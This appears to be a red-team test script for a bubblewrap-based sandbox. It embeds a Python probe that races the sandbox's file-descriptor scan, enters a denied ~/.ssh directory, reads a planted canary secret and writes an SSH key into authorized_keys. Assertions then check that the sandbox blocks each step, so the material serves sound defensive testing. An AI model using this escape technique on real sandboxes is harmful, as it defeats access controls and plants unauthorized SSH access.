#!/bin/bash
# Escape class H1 (linux-bwrap), red team on ce50c65's held_below: the
# scan lists /proc/PID/fd, then stats each listed entry, and skips one whose
# stat fails. The command keeps its descriptor of the staged directory
# (0957: `mv ~/.ssh ~/.ssh.old; mv ~/.ssh.new ~/.ssh`, allowWrite "~")
# hopping among eight numbers (dup2, close) while its working directory
# stays in the project: the number the listing saw is mostly gone by the
# time it is stat()ed. The run goes on, and the command fchdir()s into
# the new ~/.ssh, stats the host's names and writes there. Up to 8 runs
# (here about one in three gets through).
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1

cat > "$WORK/probe.py" <<'PYEOF'
import ctypes, os, sys, threading, time
p, stage = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
ssh = os.path.join(os.environ["HOME"], ".ssh")
res = open(p + "/res", "a")
def holder():
    fd = os.open(stage, os.O_RDONLY | os.O_DIRECTORY)
    nums = list(range(100, 108))
    cur = nums[0]
    os.dup2(fd, cur); os.close(fd)
    open(p + "/in", "w").close()
    while not os.path.exists(p + "/written"):
        for _ in range(5000):
            for nx in nums[1:] + nums[:1]:
                os.dup2(cur, nx); os.close(cur); cur = nx
    os.fchdir(cur)
    try:
        os.stat(ssh + "/host-made-name")
    except OSError:
        res.write("full-path-covered\n")
    try:
        os.stat("host-made-name")
        res.write("stat-sees-name\n")
    except OSError:
        pass
    try:
        res.write(open("host-made-name").read())
    except OSError:
        pass
    try:
        fd = os.open("authorized_keys", os.O_WRONLY | os.O_CREAT, 0o600)
        os.write(fd, b"ssh-ed25519 AAAA planted-by-the-command\n")
        os.close(fd)
        res.write("planted\n")
    except OSError:
        pass
    res.flush()
open(p + "/ready", "w").close()
holder()
res.write("leader-cwd %s\n" % os.getcwd())
res.write("done\n")
PYEOF

for try in $(seq 8); do
	rm -rf "$HOME"/.ssh* "$P/ready" "$P/in" "$P/written" "$P/res"
	mkdir -p "$HOME/.ssh" "$HOME/.ssh.new"
	echo "$CANARY" > "$HOME/.ssh/id_canary"
	S=$(fsjson s '{"denyRead":["~/.ssh"],"allowWrite":[".","~"],"denyWrite":[]}')
	srt__bg -s "$S" -c "$PY $WORK/probe.py $P $HOME/.ssh.new"
	pid=$!
	wait_for "$P/ready" 100 || diag "the probe did not start: $(cat "$WORK/bg.out")"
	wait_for "$P/in" 50 || diag "the probe did not open ~/.ssh.new: $(cat "$P/res" 2>/dev/null)"
	mv "$HOME/.ssh" "$HOME/.ssh.old"
	mv "$HOME/.ssh.new" "$HOME/.ssh"
	sleep 0.5 # the watcher's cover is on the new ~/.ssh by now
	echo "SECRET-$CANARY" > "$HOME/.ssh/host-made-name"
	touch "$P/written"
	end_bg "$pid" 150
	diag "attempt $try: $(tr '\n' ' ' < "$P/res" 2>/dev/null)"
	grep -q stat-sees-name "$P/res" 2>/dev/null && break
done
diag "res: $(tr '\n' ' ' < "$P/res" 2>/dev/null)"
diag "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-600)"
attempt H1 "directory fd hopping between numbers in the directory moved to the denied ~/.ssh: srt stopped the run each time ($try runs)" \
	sh -c "grep -qE 'had entered or opened before srt covered it again|cannot tell whether a process of the command is inside' '$WORK/bg.out' && ! grep -qx done '$P/res'"
attempt H1 "directory fd hopping between numbers in the directory moved to the denied ~/.ssh: no name the host puts there is seen" \
	sh -c "! grep -q stat-sees-name '$P/res'"
attempt H1 "directory fd hopping between numbers in the directory moved to the denied ~/.ssh: no file of it is read" \
	no_leak "$P/res"
attempt H1 "directory fd hopping between numbers in the directory moved to the denied ~/.ssh: nothing is written into it on the host" \
	test ! -e "$HOME/.ssh/authorized_keys"
echo "1..$_tap_n"
